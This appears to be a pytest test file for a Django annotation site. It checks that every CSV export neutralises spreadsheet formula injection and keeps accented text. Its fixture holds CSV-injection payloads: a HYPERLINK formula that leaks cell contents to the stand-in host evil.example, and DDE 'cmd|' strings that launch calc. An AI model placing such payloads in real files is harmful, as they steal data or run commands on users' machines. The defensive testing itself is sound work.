"""Attack: text that annotators, requesters and user names put into exports cannot run as a spreadsheet
formula in any CSV the site writes, and the spreadsheet CSVs open in Excel with their accents."""
import csv
import io
import zipfile

import pytest

from tests.factories import make_hits, make_job, make_user
from tests.results.helpers import answer
from units.crowd.models import Annotation, Assignment, Hit
from units.dissection.models import Exemplar, Unit
from units.results.exports import neutralise, unneutralise, write_milan, write_mturk, write_tally, write_units_csv
from units.results.imports import mturk_import
from units.results.models import UnitAggregate
from units.results.services import aggregation_run_layer

pytestmark = [pytest.mark.django_db, pytest.mark.filterwarnings("ignore:::crowdkit")]

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
# Every way a cell can start a formula, each hidden somewhere a persona can write.
PAYLOADS = {
    "description": HYPERLINK,
    "feedback": "+cmd|' /C calc'!A0",
    "username": "@evil",
    "crowd_word": "-2+3+cmd|' /C calc'!A0",
    "concept": "\t=1+1",
    "image_name": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(media_root):
    job = make_job(layers={"conv3": 2}, exemplars_per_unit=4, write_pictures=True)
    hits = make_hits(job)
    answer(hits[0], make_user("ann1"), "café crème", "object", description=PAYLOADS["description"])
    answer(hits[0], make_user(PAYLOADS["username"]), "猫", "object", status=Assignment.Status.REJECTED)
    Assignment.objects.filter(status=Assignment.Status.REJECTED).update(feedback=PAYLOADS["feedback"])
    layer = job.layer_set.get()
    aggregation_run_layer(layer=layer, adapt=False)
    UnitAggregate.objects.filter(unit=hits[0].unit).update(crowd_word=PAYLOADS["crowd_word"],
                                                           concept=PAYLOADS["concept"])
    Exemplar.objects.filter(unit=hits[0].unit, kind="top", rank=0).update(image_name=PAYLOADS["image_name"])
    return layer


def _write(kind, layer, tmp_path) -> dict[str, bytes]:
    """Every CSV file of one export kind, by name, as bytes."""
    path = tmp_path / f"{kind}.out"
    units = Unit.objects.filter(layer=layer)
    if kind == "units_csv":
        write_units_csv(path, units)
    elif kind == "tally":
        write_tally(path, layer)
    elif kind == "mturk":
        write_mturk(path, Hit.objects.filter(unit__layer=layer))
    else:
        write_milan(path, units)
        with zipfile.ZipFile(path) as zf:
            return {n: zf.read(n) for n in zf.namelist() if n.endswith(".csv")}
    return {kind: path.read_bytes()}


def _cells(raw: bytes) -> list[str]:
    text = raw.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("kind", ["units_csv", "tally", "mturk", "milan"])
def test_no_cell_of_any_csv_export_starts_a_formula(hostile, tmp_path, kind):
    files = _write(kind, hostile, tmp_path)
    cells = [cell for raw in files.values() for cell in _cells(raw)]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("-").replace(".", "").isdigit()]
    assert dangerous == []
    # and the payloads are still there, as text
    for payload in PAYLOADS.values():
        if "'" + payload in cells:
            assert unneutralise("'" + payload) == payload


@pytest.mark.parametrize("kind, payload", [
    ("mturk", "description"), ("mturk", "feedback"), ("mturk", "username"), ("units_csv", "crowd_word"),
    ("units_csv", "concept"), ("tally", "crowd_word"), ("milan", "description"), ("milan", "image_name"),
])
def test_each_hostile_value_is_written_as_text(hostile, tmp_path, kind, payload):
    cells = [cell for raw in _write(kind, hostile, tmp_path).values() for cell in _cells(raw)]
    if kind == "milan":  # MILAN's summaries are case-folded
        cells = [c.casefold() for c in cells]
        assert "'" + PAYLOADS[payload].casefold() in cells
    else:
        assert "'" + PAYLOADS[payload] in cells


@pytest.mark.parametrize("kind", ["units_csv", "tally", "mturk"])
def test_spreadsheet_csvs_start_with_a_utf8_byte_order_mark_and_keep_accents(hostile, tmp_path, kind):
    raw = _write(kind, hostile, tmp_path)[kind]
    assert raw.startswith(b"\xef\xbb\xbf")
    assert not raw[3:].startswith(b"\xef\xbb\xbf")
    if kind == "mturk":
        assert "café crème" in raw.decode("utf-8-sig") and "猫" in raw.decode("utf-8-sig")


def test_the_milan_archive_csvs_stay_plain_utf8(hostile, tmp_path):
    for raw in _write("milan", hostile, tmp_path).values():
        assert not raw.startswith(b"\xef\xbb\xbf")


def test_numbers_stay_numbers():
    assert neutralise("-0.5") == "-0.5" and neutralise("12") == "12" and neutralise(-3) == -3
    assert neutralise("-1+2") == "'-1+2"


@pytest.mark.parametrize("text", [HYPERLINK, "'=x", "''=x", "'plain", "plain", "-5", "'-5", "\t=1", "@a", "é"])
def test_neutralising_is_undone_exactly(text):
    assert unneutralise(neutralise(text)) == text


def test_a_neutralised_mturk_export_imports_back_to_the_typed_description(hostile, tmp_path):
    files = _write("mturk", hostile, tmp_path)
    (tmp_path / "m.csv").write_bytes(files["mturk"])
    other = make_job(layers={"conv3": 2}, exemplars_per_unit=4).layer_set.get()
    mturk_import(path=tmp_path / "m.csv", layer=other)
    back = Annotation.objects.get(assignment__hit__unit__layer=other, assignment__worker__username="mturk-ann1")
    assert back.description == HYPERLINK
    assert Assignment.objects.filter(hit__unit__layer=other, feedback=PAYLOADS["feedback"]).exists()
